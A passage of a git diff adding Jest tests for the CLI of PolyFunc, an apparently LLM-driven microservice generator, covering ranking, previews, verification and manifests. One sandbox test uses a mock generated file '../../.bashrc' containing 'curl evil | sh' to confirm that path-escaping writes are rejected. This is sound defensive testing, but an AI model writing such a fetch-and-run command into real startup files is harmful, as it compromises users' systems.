@@ -1,14 +1,24 @@
 const fs = require('fs');
 const path = require('path');
 const config = require('../../src/core/config');
+const { ConfigError } = require('../../src/core/config-schema');
+const { ConfigFile } = require('../../src/core/config-file');
 const llm = require('../../src/llm/client');
 const languageProfiles = require('../../src/languages/profile');
+const { createPrompt } = require('../../src/cli/prompt');
+const pipeline = require('../../src/project/pipeline');
+const { Verifier } = require('../../src/verify/verifier');
+const profileLoader = require('../../src/languages/loader');
 
 // Mock dependencies
 jest.mock('fs', () => ({
   promises: {
     mkdir: jest.fn().mockResolvedValue(undefined),
-    writeFile: jest.fn().mockResolvedValue(undefined)
+    writeFile: jest.fn().mockResolvedValue(undefined),
+    access: jest.fn().mockRejectedValue(Object.assign(new Error('not found'), { code: 'ENOENT' })),
+    rm: jest.fn().mockResolvedValue(undefined),
+    lstat: jest.fn().mockRejectedValue(Object.assign(new Error('not found'), { code: 'ENOENT' })),
+    readFile: jest.fn().mockRejectedValue(Object.assign(new Error('not found'), { code: 'ENOENT' }))
   },
   readFileSync: jest.fn(),
   writeFileSync: jest.fn()
@@ -17,6 +27,7 @@ jest.mock('fs', () => ({
 jest.mock('../../src/core/config');
 jest.mock('../../src/llm/client');
 jest.mock('../../src/languages/profile');
+jest.mock('../../src/cli/prompt');
 
 describe('CLI Module', () => {
   let cli;
@@ -38,23 +49,63 @@ describe('CLI Module', () => {
     llm.analyzeRequirements = jest.fn();
     llm.decomposeService = jest.fn();
     llm.generateCode = jest.fn();
+    llm.generateContract = jest.fn();
+    llm.updateService = jest.fn();
+    llm.promptHashes = {};
+
+    languageProfiles.filterLanguages.mockReturnValue({ candidates: [], eliminated: [] });
+
+    // Templates are read from disk, which is mocked here; generate freeform unless a test scaffolds
+    jest.spyOn(pipeline, 'scaffoldService').mockReturnValue(null);
 
     // Load CLI module fresh
     cli = require('../../src/cli/index.js');
   });
   
+  afterEach(() => {
+    pipeline.scaffoldService.mockRestore();
+  });
+  
   test('CLI initializes with correct version and description', () => {
     expect(cli.program.description()).toContain('PolyFunc');
   });
   
+  test('applyGlobalOptions switches the LLM client to replay mode', () => {
+    cli.applyGlobalOptions({ replay: './fixtures/ci' });
+    
+    expect(config.set).toHaveBeenCalledWith('llm.fixtures', './fixtures/ci');
+    expect(config.set).toHaveBeenCalledWith('llm.provider', 'replay');
+    expect(llm.configure).toHaveBeenCalled();
+  });
+  
+  test('applyGlobalOptions enables recording and rejects conflicting modes', () => {
+    cli.applyGlobalOptions({ record: true });
+    
+    expect(config.set).toHaveBeenCalledWith('llm.record', true);
+    expect(config.set).not.toHaveBeenCalledWith('llm.fixtures', expect.anything());
+    expect(() => cli.applyGlobalOptions({ record: true, replay: true })).toThrow(/cannot be used together/);
+  });
+  
+  test('applyGlobalOptions loads the layered configuration before applying flags', () => {
+    cli.applyGlobalOptions({ config: 'ci/polyfunc.yaml', profile: 'ci', replay: true });
+    
+    expect(config.load).toHaveBeenCalledWith({ configFile: 'ci/polyfunc.yaml', profile: 'ci' });
+    expect(config.load.mock.invocationCallOrder[0]).toBeLessThan(config.set.mock.invocationCallOrder[0]);
+    
+    config.load.mockClear();
+    cli.applyGlobalOptions({}, { loadConfig: false });
+    expect(config.load).not.toHaveBeenCalled();
+  });
+  
   test('init command creates directories and configuration file', async () => {
+    config.defaults.mockReturnValue({ llm: { provider: 'openai' } });
     await cli.handlers.init();
     
     expect(fs.promises.mkdir).toHaveBeenCalledWith('./services', { recursive: true });
     expect(fs.promises.mkdir).toHaveBeenCalledWith('./templates', { recursive: true });
     expect(fs.promises.writeFile).toHaveBeenCalledWith(
       './polyfunc.json',
-      expect.any(String),
+      JSON.stringify({ llm: { provider: 'openai' } }, null, 2),
       'utf8'
     );
   });
@@ -77,6 +128,57 @@ describe('CLI Module', () => {
     expect(languageProfiles.findBestLanguageForRequirements).toHaveBeenCalledWith(requirements);
   });
   
+  test('analyze --explain renders the ranking as a table', async () => {
+    const log = jest.spyOn(console, 'log').mockImplementation(() => {});
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    languageProfiles.filterLanguages.mockReturnValueOnce({ candidates: ['go', 'python'], eliminated: [] });
+    languageProfiles.rankLanguages.mockReturnValueOnce([
+      {
+        language: 'go',
+        score: 8.5,
+        factors: [{ name: 'performance', value: 8, weight: 0.8, contribution: 8.5 }]
+      },
+      { language: 'python', score: 0, factors: [] }
+    ]);
+    
+    await cli.handlers.analyze('Create an API service', { explain: true });
+    
+    const output = log.mock.calls.map(call => call.join(' ')).join('\n');
+    log.mockRestore();
+    expect(output).toMatch(/#\s+Language\s+Score\s+performance/);
+    expect(output).toMatch(/1\s+go\s+8\.50\s+8\.50 \(8x0\.80\)/);
+    expect(output).toMatch(/2\s+python\s+0\.00\s+-/);
+    expect(languageProfiles.findBestLanguageForRequirements).not.toHaveBeenCalled();
+  });
+  
+  test('analyze --json prints only machine readable output', async () => {
+    const log = jest.spyOn(console, 'log').mockImplementation(() => {});
+    const requirements = { useCase: 'api', requirements: {} };
+    llm.analyzeRequirements.mockResolvedValueOnce(requirements);
+    languageProfiles.rankLanguages.mockReturnValueOnce([
+      { language: 'go', score: 8.5, factors: [], profile: { heavy: true } }
+    ]);
+    languageProfiles.filterLanguages.mockReturnValueOnce({
+      candidates: ['go'],
+      eliminated: [{ language: 'rust', reasons: ['excluded by deny-list'] }]
+    });
+    
+    await cli.handlers.analyze('Create an API service', { json: true, exclude: ['rust'] });
+    
+    expect(log).toHaveBeenCalledTimes(1);
+    const output = JSON.parse(log.mock.calls[0][0]);
+    log.mockRestore();
+    expect(output).toEqual({
+      requirements,
+      ranking: [{ language: 'go', score: 8.5, factors: [] }],
+      eliminated: [{ language: 'rust', reasons: ['excluded by deny-list'] }]
+    });
+    expect(languageProfiles.rankLanguages).toHaveBeenCalledWith({
+      ...requirements,
+      constraints: { allow: null, deny: ['rust'], requiredLibraries: [], minimums: {} }
+    });
+  });
+  
   test('decompose command calls LLM', async () => {
     llm.decomposeService.mockResolvedValueOnce([
       { name: 'service1', purpose: 'Authentication' }
@@ -107,9 +209,249 @@ describe('CLI Module', () => {
     await cli.handlers.create('Create an API service', {});
     
     expect(llm.analyzeRequirements).toHaveBeenCalledWith('Create an API service');
-    expect(llm.generateCode).toHaveBeenCalledWith('javascript', 'service', 'Create an API service');
+    expect(llm.generateCode).toHaveBeenCalledWith('javascript', 'javascript-service', 'Create an API service', {});
     expect(fs.promises.mkdir).toHaveBeenCalledWith(expect.stringContaining('javascript-service'), { recursive: true });
-    expect(fs.promises.writeFile).toHaveBeenCalledTimes(2); // One for the file, one for README.md
+    expect(fs.promises.writeFile).toHaveBeenCalledTimes(3); // The file, README.md and polyfunc.lock
+    
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    const service = manifest.services['javascript-service'];
+    expect(service).toEqual(expect.objectContaining({
+      name: 'javascript-service',
+      description: 'Create an API service',
+      language: 'javascript',
+      score: 0.85,
+      path: path.join('services', 'javascript-service'),
+      generatedAt: expect.any(String)
+    }));
+    expect(service.files.map(file => file.path)).toEqual(['index.js', 'README.md']);
+    expect(service.files[0].sha256).toMatch(/^[0-9a-f]{64}$/);
+  });
+  
+  test('create command reports generated files the sandbox rejects', async () => {
+    const warn = jest.spyOn(console, 'warn').mockImplementation(() => {});
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    llm.generateCode.mockResolvedValueOnce({
+      files: [
+        { filename: '../../.bashrc', content: 'curl evil | sh' },
+        { filename: 'main.go', content: 'package main' }
+      ],
+      instructions: '',
+      dependencies: []
+    });
+    
+    await cli.handlers.create('Create an API service', { language: 'go' });
+    
+    expect(warn).toHaveBeenCalledWith('Rejected ../../.bashrc: path escapes the service directory');
+    warn.mockRestore();
+    expect(fs.promises.writeFile).not.toHaveBeenCalledWith(expect.stringContaining('.bashrc'), expect.anything(), 'utf8');
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(manifest.services['go-service'].files.map(file => file.path)).toEqual(['main.go', 'README.md']);
+    expect(manifest.services['go-service'].rejected).toEqual([
+      { path: '../../.bashrc', reason: 'path escapes the service directory' }
+    ]);
+  });
+  
+  describe('create previews', () => {
+    let log;
+    let write;
+    
+    beforeEach(() => {
+      log = jest.spyOn(console, 'log').mockImplementation(() => {});
+      write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
+      llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+      llm.generateCode.mockResolvedValueOnce({
+        files: [
+          { filename: 'main.go', content: 'package main\n' },
+          { filename: 'cmd/server.go', content: 'package cmd\n' }
+        ],
+        instructions: 'go run .',
+        dependencies: []
+      });
+    });
+    
+    afterEach(() => {
+      log.mockRestore();
+      write.mockRestore();
+    });
+    
+    const output = () => log.mock.calls.map(call => call[0]).join('\n');
+    
+    test('--dry-run prints the planned tree without writing', async () => {
+      await cli.handlers.create('Create an API service', { language: 'go', dryRun: true });
+      
+      expect(fs.promises.writeFile).not.toHaveBeenCalled();
+      expect(fs.promises.mkdir).not.toHaveBeenCalled();
+      expect(output()).toContain('Planned service in go');
+      expect(output()).toContain('├── cmd/\n│   └── server.go (12 B, new)');
+      expect(output()).toContain('3 file(s)');
+      expect(output()).toContain('Dry run: nothing was written');
+    });
+    
+    test('--dry-run does not verify, even when asked to or when verify.enabled is set', async () => {
+      const verify = jest.spyOn(pipeline, 'verifyGenerated');
+      
+      await cli.handlers.create('Create an API service', { language: 'go', dryRun: true, verify: true });
+      config.get.mockImplementation(key => (key === 'verify.enabled' ? true : undefined));
+      await cli.handlers.create('Create an API service', { language: 'go', dryRun: true });
+      
+      expect(verify).not.toHaveBeenCalled();
+      expect(output()).not.toContain('Verifying generated code...');
+      expect(output()).toContain('Dry run: nothing was written');
+      config.get.mockReset();
+      verify.mockRestore();
+    });
+    
+    test('--dry-run previews an existing service instead of refusing', async () => {
+      fs.promises.readFile
+        .mockResolvedValueOnce(JSON.stringify({ version: 1, services: { 'go-service': { name: 'go-service' } } }))
+        .mockResolvedValueOnce('package old\n');
+      
+      await cli.handlers.create('Create an API service', { language: 'go', dryRun: true, diff: true });
+      
+      expect(llm.generateCode).toHaveBeenCalled();
+      const diff = write.mock.calls.map(call => call[0]).join('');
+      expect(diff).toContain('--- a/main.go\n+++ b/main.go\n@@ -1 +1 @@\n-package old\n+package main\n');
+      expect(diff).toContain('--- /dev/null\n+++ b/cmd/server.go');
+      expect(output()).toContain('main.go (13 B, modified)');
+      expect(fs.promises.writeFile).not.toHaveBeenCalled();
+    });
+    
+    test('--interactive writes only the accepted files', async () => {
+      const ask = jest.fn().mockResolvedValueOnce('n').mockResolvedValueOnce('y').mockResolvedValueOnce('');
+      createPrompt.mockReturnValueOnce({ ask, close: jest.fn() });
+      
+      await cli.handlers.create('Create an API service', { language: 'go', interactive: true });
+      
+      expect(ask).toHaveBeenCalledTimes(3);
+      expect(ask).toHaveBeenCalledWith('Write main.go (new, 13 B)? [y]es/[n]o/[a]ll/[q]uit ');
+      const written = fs.promises.writeFile.mock.calls.map(call => call[0]);
+      expect(written).toEqual([path.resolve('services', 'go-service', 'cmd/server.go'), 'polyfunc.lock']);
+      const manifest = JSON.parse(fs.promises.writeFile.mock.calls[1][1]);
+      expect(manifest.services['go-service'].files.map(file => file.path)).toEqual(['cmd/server.go']);
+    });
+    
+    test('--interactive accepts the rest after "a" and stops asking after "q"', async () => {
+      const ask = jest.fn().mockResolvedValueOnce('q');
+      createPrompt.mockReturnValueOnce({ ask, close: jest.fn() });
+      
+      await cli.handlers.create('Create an API service', { language: 'go', interactive: true });
+      
+      expect(ask).toHaveBeenCalledTimes(1);
+      expect(fs.promises.writeFile).not.toHaveBeenCalled();
+      expect(output()).toContain('No files accepted, nothing was written');
+      
+      llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+      llm.generateCode.mockResolvedValueOnce({
+        files: [{ filename: 'a', content: '' }, { filename: 'b', content: '' }],
+        instructions: '',
+        dependencies: []
+      });
+      const askAll = jest.fn().mockResolvedValueOnce('a');
+      createPrompt.mockReturnValueOnce({ ask: askAll, close: jest.fn() });
+      
+      await cli.handlers.create('Create an API service', { language: 'go', interactive: true, name: 'other' });
+      
+      expect(askAll).toHaveBeenCalledTimes(1);
+      expect(fs.promises.writeFile).toHaveBeenCalledTimes(4); // a, b, README.md and polyfunc.lock
+    });
+  });
+  
+  test('create --verify replaces the code with the repaired version and records the result', async () => {
+    const log = jest.spyOn(console, 'log').mockImplementation(() => {});
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    llm.generateCode.mockResolvedValueOnce({
+      files: [{ filename: 'main.go', content: 'broken' }],
+      instructions: '',
+      dependencies: []
+    });
+    const report = {
+      language: 'go',
+      status: 'passed',
+      stages: [
+        { name: 'build', status: 'passed' },
+        { name: 'test', status: 'skipped', reason: 'go is not installed' }
+      ]
+    };
+    const verify = jest.spyOn(pipeline, 'verifyGenerated').mockResolvedValueOnce({
+      code: { files: [{ filename: 'main.go', content: 'package main' }], instructions: '', dependencies: [] },
+      report,
+      rounds: 1
+    });
+    
+    await cli.handlers.create('Create an API service', { language: 'go', verify: true, repairRounds: 3 });
+    
+    expect(verify).toHaveBeenCalledWith('go', 'go-service', expect.objectContaining({ files: [{ filename: 'main.go', content: 'broken' }] }), {
+      rounds: 3,
+      log: console.log
+    });
+    expect(log).toHaveBeenCalledWith('Verification passed after 1 repair round(s)');
+    expect(log).toHaveBeenCalledWith('  test: skipped (go is not installed)');
+    log.mockRestore();
+    verify.mockRestore();
+    
+    expect(fs.promises.writeFile).toHaveBeenCalledWith(path.resolve('services', 'go-service', 'main.go'), 'package main', 'utf8');
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(manifest.services['go-service'].verification).toEqual({
+      status: 'passed',
+      repairRounds: 1,
+      stages: [{ name: 'build', status: 'passed' }, { name: 'test', status: 'skipped', reason: 'go is not installed' }]
+    });
+  });
+  
+  test('create only verifies when asked to or when verify.enabled is set', async () => {
+    const verify = jest.spyOn(pipeline, 'verifyGenerated');
+    llm.analyzeRequirements.mockResolvedValue({ useCase: 'api', requirements: {} });
+    llm.generateCode.mockResolvedValue({ files: [], instructions: '', dependencies: [] });
+    
+    await cli.handlers.create('Create an API service', { language: 'go' });
+    expect(verify).not.toHaveBeenCalled();
+    
+    config.get.mockImplementation(key => (key === 'verify.enabled' ? true : undefined));
+    await cli.handlers.create('Create an API service', { language: 'go', name: 'b', verify: false });
+    expect(verify).not.toHaveBeenCalled();
+    
+    verify.mockResolvedValueOnce({ code: { files: [], instructions: '', dependencies: [] }, report: { status: 'skipped', stages: [] }, rounds: 0 });
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    await cli.handlers.create('Create an API service', { language: 'go', name: 'c' });
+    console.log.mockRestore();
+    
+    expect(verify).toHaveBeenCalledTimes(1);
+    config.get.mockReset();
+    llm.analyzeRequirements.mockReset();
+    llm.generateCode.mockReset();
+    verify.mockRestore();
+  });
+  
+  test('create command refuses to overwrite an existing service without --force', async () => {
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    fs.promises.readFile.mockResolvedValueOnce(JSON.stringify({
+      version: 1,
+      services: { 'go-service': { name: 'go-service', language: 'go' } }
+    }));
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    
+    await cli.handlers.create('Create an API service', { language: 'go' });
+    
+    expect(error).toHaveBeenCalledWith(expect.stringContaining('Service "go-service" already exists'));
+    error.mockRestore();
+    expect(llm.generateCode).not.toHaveBeenCalled();
+    expect(fs.promises.writeFile).not.toHaveBeenCalled();
+  });
+  
+  test('create command overwrites an existing service with --force', async () => {
+    fs.promises.readFile.mockResolvedValueOnce(JSON.stringify({
+      version: 1,
+      services: { orders: { name: 'orders', language: 'python' } }
+    }));
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    llm.generateCode.mockResolvedValueOnce({ files: [], instructions: '', dependencies: [] });
+    
+    await cli.handlers.create('Create an API service', { language: 'go', name: 'Orders', force: true });
+    
+    expect(llm.generateCode).toHaveBeenCalledWith('go', 'orders', 'Create an API service', {});
+    expect(fs.promises.mkdir).toHaveBeenCalledWith(path.resolve('services', 'orders'), { recursive: true });
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(manifest.services.orders.language).toBe('go');
   });
   
   test('create command uses specified language when provided', async () => {
@@ -127,7 +469,1159 @@ describe('CLI Module', () => {
     await cli.handlers.create('Create an API service', { language: 'go' });
     
     expect(llm.analyzeRequirements).toHaveBeenCalledWith('Create an API service');
-    expect(llm.generateCode).toHaveBeenCalledWith('go', 'service', 'Create an API service');
+    expect(llm.generateCode).toHaveBeenCalledWith('go', 'go-service', 'Create an API service', {});
     expect(fs.promises.mkdir).toHaveBeenCalledWith(expect.stringContaining('go-service'), { recursive: true });
   });
-});
\ No newline at end of file
+  
+  test('create command passes --exclude and --require-lib as constraints', async () => {
+    const requirements = { useCase: 'ml', requirements: {} };
+    llm.analyzeRequirements.mockResolvedValueOnce(requirements);
+    languageProfiles.findBestLanguageForRequirements.mockReturnValueOnce({
+      language: 'python',
+      score: 9,
+      profile: {},
+      eliminated: [{ language: 'go', reasons: ['excluded by deny-list'] }]
+    });
+    llm.generateCode.mockResolvedValueOnce({
+      files: [{ filename: 'app.py', content: 'print("hi")' }],
+      instructions: 'python app.py',
+      dependencies: []
+    });
+    
+    await cli.handlers.create('Wrap a scikit-learn model', { exclude: ['go', 'rust'], requireLib: ['scikit-learn'] });
+    
+    expect(languageProfiles.findBestLanguageForRequirements).toHaveBeenCalledWith({
+      ...requirements,
+      constraints: { allow: null, deny: ['go', 'rust'], requiredLibraries: ['scikit-learn'], minimums: {} }
+    });
+    expect(llm.generateCode).toHaveBeenCalledWith('python', 'python-service', 'Wrap a scikit-learn model', {});
+  });
+  
+  test('create command refuses a specified language that a constraint eliminates', async () => {
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    const requirements = { useCase: 'api', requirements: {} };
+    llm.analyzeRequirements.mockResolvedValueOnce(requirements);
+    languageProfiles.filterLanguages.mockReturnValueOnce({
+      candidates: ['python'],
+      eliminated: [{ language: 'go', reasons: ['excluded by deny-list'] }]
+    });
+    
+    await cli.handlers.create('Create an API service', { language: 'go', exclude: ['go'] });
+    
+    expect(languageProfiles.filterLanguages).toHaveBeenCalledWith({
+      ...requirements,
+      constraints: { allow: null, deny: ['go'], requiredLibraries: [], minimums: {} }
+    });
+    expect(error).toHaveBeenCalledWith('\ngo does not satisfy the selection constraints: excluded by deny-list');
+    expect(llm.generateCode).not.toHaveBeenCalled();
+    error.mockRestore();
+  });
+  
+  test('create command stops when every language is eliminated', async () => {
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    languageProfiles.findBestLanguageForRequirements.mockReturnValueOnce({
+      language: null,
+      score: -1,
+      profile: null,
+      eliminated: [{ language: 'go', reasons: ['excluded by deny-list'] }]
+    });
+    
+    await cli.handlers.create('Create an API service', { exclude: ['go'] });
+    
+    expect(error).toHaveBeenCalledWith(expect.stringContaining('No language satisfies the selection constraints'));
+    error.mockRestore();
+    expect(llm.generateCode).not.toHaveBeenCalled();
+  });
+  
+  test('generate command builds every microservice and writes a manifest', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    llm.decomposeService.mockResolvedValueOnce([
+      { name: 'Order Service', purpose: 'Take orders', description: 'Stores orders', endpoints: ['POST /orders'] },
+      { name: 'reports', purpose: 'Build reports', endpoints: [] }
+    ]);
+    llm.analyzeRequirements
+      .mockResolvedValueOnce({ useCase: 'api', requirements: {} })
+      .mockResolvedValueOnce({ useCase: 'data', requirements: {} });
+    languageProfiles.rankLanguages
+      .mockReturnValueOnce([{ language: 'go', score: 8, factors: [] }])
+      .mockReturnValueOnce([{ language: 'python', score: 9, factors: [] }]);
+    languageProfiles.filterLanguages.mockReturnValue({ candidates: [], eliminated: [] });
+    llm.generateCode.mockResolvedValue({
+      files: [{ filename: 'main', content: 'code' }],
+      instructions: 'run it',
+      dependencies: []
+    });
+    
+    await cli.handlers.generate('An online shop', {});
+    console.log.mockRestore();
+    
+    expect(llm.analyzeRequirements).toHaveBeenCalledWith('Take orders. Stores orders');
+    expect(llm.generateCode).toHaveBeenCalledWith('go', 'order-service', 'Take orders. Stores orders', {
+      purpose: 'Take orders',
+      endpoints: ['POST /orders'],
+      calls: []
+    });
+    expect(llm.generateCode).toHaveBeenCalledWith('python', 'reports', 'Build reports', {
+      purpose: 'Build reports',
+      endpoints: [],
+      calls: []
+    });
+    expect(fs.promises.mkdir).toHaveBeenCalledWith(path.resolve('services', 'order-service'), { recursive: true });
+    
+    const manifestCall = fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock');
+    const manifest = JSON.parse(manifestCall[1]);
+    expect(manifest.services['order-service']).toEqual(expect.objectContaining({
+      language: 'go',
+      score: 8,
+      endpoints: ['POST /orders'],
+      reasoning: 'Selected go with score 8.00'
+    }));
+    expect(manifest.services.reports.language).toBe('python');
+  });
+  
+  test('generate command builds dependencies first and tells callers their contracts', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    llm.decomposeService.mockResolvedValueOnce([
+      {
+        name: 'Order Service',
+        purpose: 'Take orders',
+        endpoints: ['POST /orders'],
+        consumes: [{ service: 'Users', endpoints: ['GET /users/{id}'] }]
+      },
+      { name: 'users', purpose: 'Store users', endpoints: ['GET /users/{id}', 'POST /users'] }
+    ]);
+    llm.analyzeRequirements.mockResolvedValue({ useCase: 'api', requirements: {} });
+    languageProfiles.rankLanguages.mockReturnValue([{ language: 'go', score: 8, factors: [] }]);
+    languageProfiles.filterLanguages.mockReturnValue({ candidates: [], eliminated: [] });
+    llm.generateCode.mockResolvedValue({ files: [{ filename: 'main.go', content: 'package main' }], instructions: '', dependencies: [] });
+    
+    await cli.handlers.generate('An online shop', {});
+    
+    expect(console.log).toHaveBeenCalledWith('Generation order: users, order-service');
+    console.log.mockRestore();
+    expect(llm.generateCode.mock.calls.map(call => call[1])).toEqual(['users', 'order-service']);
+    expect(llm.generateCode.mock.calls[1][3].calls).toEqual([{
+      service: 'users',
+      urlVariable: 'USERS_URL',
+      endpoints: ['GET /users/{id}', 'POST /users'],
+      uses: ['GET /users/{id}']
+    }]);
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(manifest.services['order-service']).toMatchObject({
+      dependsOn: ['users'],
+      consumes: [{ service: 'users', endpoints: ['GET /users/{id}'] }]
+    });
+    expect(manifest.services.users.dependsOn).toEqual([]);
+  });
+  
+  test('generate command writes contracts first and generates code against them', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    const usersContract = {
+      openapi: '3.0.3',
+      info: { title: 'users', version: '1.0.0' },
+      paths: { '/users/{id}': { get: { responses: { 200: { description: 'A user' } } } } }
+    };
+    const ordersContract = { ...usersContract, info: { title: 'orders', version: '1.0.0' }, paths: {} };
+    llm.decomposeService.mockResolvedValueOnce([
+      { name: 'orders', purpose: 'Take orders', consumes: [{ service: 'users', endpoints: ['GET /users/{id}'] }] },
+      { name: 'users', purpose: 'Store users', endpoints: ['GET /users/{id}'] }
+    ]);
+    llm.analyzeRequirements.mockResolvedValue({ useCase: 'api', requirements: {} });
+    languageProfiles.rankLanguages.mockReturnValue([{ language: 'go', score: 8, factors: [] }]);
+    languageProfiles.filterLanguages.mockReturnValue({ candidates: [], eliminated: [] });
+    llm.generateContract.mockResolvedValueOnce(usersContract).mockResolvedValueOnce(ordersContract);
+    llm.generateCode.mockResolvedValue({ files: [{ filename: 'main.go', content: 'package main' }], instructions: '', dependencies: [] });
+    
+    await cli.handlers.generate('An online shop', {});
+    console.log.mockRestore();
+    
+    expect(llm.generateContract).toHaveBeenNthCalledWith(1, 'users', 'Store users', {
+      purpose: 'Store users',
+      endpoints: ['GET /users/{id}'],
+      callers: [{ service: 'orders', uses: ['GET /users/{id}'] }]
+    });
+    expect(llm.generateCode.mock.calls[0][3].contract).toBe(usersContract);
+    expect(llm.generateCode.mock.calls[1][3].contract).toBe(ordersContract);
+    expect(llm.generateCode.mock.calls[1][3].calls[0].contract).toBe(usersContract);
+    const written = fs.promises.writeFile.mock.calls.map(call => call[0]);
+    expect(written).toContain(path.resolve('services', 'users', 'openapi.yaml'));
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(manifest.services.users.contract).toBe('openapi.yaml');
+  });
+  
+  test('generate command skips contracts with --no-contract', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    llm.decomposeService.mockResolvedValueOnce([{ name: 'users', purpose: 'Store users' }]);
+    llm.analyzeRequirements.mockResolvedValue({ useCase: 'api', requirements: {} });
+    languageProfiles.rankLanguages.mockReturnValue([{ language: 'go', score: 8, factors: [] }]);
+    languageProfiles.filterLanguages.mockReturnValue({ candidates: [], eliminated: [] });
+    llm.generateCode.mockResolvedValue({ files: [{ filename: 'main.go', content: 'package main' }], instructions: '', dependencies: [] });
+    
+    await cli.handlers.generate('Users', { contract: false });
+    console.log.mockRestore();
+    
+    expect(llm.generateContract).not.toHaveBeenCalled();
+    expect(llm.generateCode.mock.calls[0][3]).not.toHaveProperty('contract');
+  });
+  
+  test('generate command refuses a decomposition with a dependency cycle', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    llm.decomposeService.mockResolvedValueOnce([
+      { name: 'a', purpose: 'A', dependsOn: ['b'] },
+      { name: 'b', purpose: 'B', dependsOn: ['a'] }
+    ]);
+    
+    await cli.handlers.generate('Two services', {});
+    console.log.mockRestore();
+    
+    expect(error.mock.calls[0][1].message).toContain('dependency cycle: a -> b -> a');
+    error.mockRestore();
+    expect(llm.analyzeRequirements).not.toHaveBeenCalled();
+    expect(llm.generateCode).not.toHaveBeenCalled();
+  });
+  
+  test('generate command keeps going when one service fails', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
+    llm.decomposeService.mockResolvedValueOnce([{ name: 'broken', purpose: 'Fail' }, { name: 'ok', purpose: 'Work' }]);
+    llm.analyzeRequirements
+      .mockRejectedValueOnce(new Error('invalid requirements'))
+      .mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    languageProfiles.rankLanguages.mockReturnValueOnce([{ language: 'go', score: 8, factors: [] }]);
+    languageProfiles.filterLanguages.mockReturnValue({ candidates: [], eliminated: [] });
+    llm.generateCode.mockResolvedValueOnce({ files: [], instructions: '', dependencies: [] });
+    
+    await cli.handlers.generate('Two services', {});
+    console.log.mockRestore();
+    
+    expect(error).toHaveBeenCalledWith('[broken] Failed: invalid requirements');
+    error.mockRestore();
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(Object.keys(manifest.services)).toEqual(['ok']);
+  });
+  
+  test('generate command skips services that already exist', async () => {
+    jest.spyOn(console, 'log').mockImplementation(() => {});
+    fs.promises.access.mockResolvedValueOnce(undefined);
+    llm.decomposeService.mockResolvedValueOnce([{ name: 'orders', purpose: 'Orders' }]);
+    
+    await cli.handlers.generate('One service', {});
+    console.log.mockRestore();
+    
+    expect(llm.analyzeRequirements).not.toHaveBeenCalled();
+    expect(llm.generateCode).not.toHaveBeenCalled();
+  });
+  
+  test('create command scaffolds from a template and records it', async () => {
+    const log = jest.spyOn(console, 'log').mockImplementation(() => {});
+    const warn = jest.spyOn(console, 'warn').mockImplementation(() => {});
+    llm.analyzeRequirements.mockResolvedValueOnce({ useCase: 'api', requirements: {} });
+    pipeline.scaffoldService.mockReturnValueOnce({
+      template: 'express',
+      port: 4000,
+      files: [{ filename: 'package.json', content: '{"name":"orders"}' }],
+      logic: { 'src/routes.js': 'Adds the routes' },
+      instructions: 'npm start',
+      dependencies: ['express']
+    });
+    llm.generateCode.mockResolvedValueOnce({
+      files: [
+        { filename: 'src/routes.js', content: 'module.exports = {};' },
+        { filename: 'package.json', content: '{}' }
+      ],
+      instructions: '',
+      dependencies: []
+    });
+    
+    await cli.handlers.create('Create an API service', { language: 'javascript', name: 'orders', template: 'express', port: 4000 });
+    
+    expect(pipeline.scaffoldService).toHaveBeenCalledWith(expect.anything(), {
+      language: 'javascript',
+      name: 'orders',
+      description: 'Create an API service',
+      template: 'express',
+      port: 4000
+    });
+    expect(llm.generateCode.mock.calls[0][3].template.template).toBe('express');
+    expect(log).toHaveBeenCalledWith('Generating code from the express template (port 4000)...');
+    expect(warn).toHaveBeenCalledWith('Ignored package.json: not a logic file of the express template');
+    [log, warn].forEach(spy => spy.mockRestore());
+    
+    expect(fs.promises.writeFile).toHaveBeenCalledWith(expect.stringMatching(/package\.json$/), '{"name":"orders"}', 'utf8');
+    const manifest = JSON.parse(fs.promises.writeFile.mock.calls.find(call => call[0] === 'polyfunc.lock')[1]);
+    expect(manifest.services.orders).toMatchObject({ template: 'express', port: 4000 });
+    expect(manifest.services.orders.files.map(file => file.path)).toEqual(['package.json', 'src/routes.js', 'README.md']);
+  });
+  
+  test('templates command lists built-in and user templates', () => {
+    const log = jest.spyOn(console, 'log').mockImplementation(() => {});
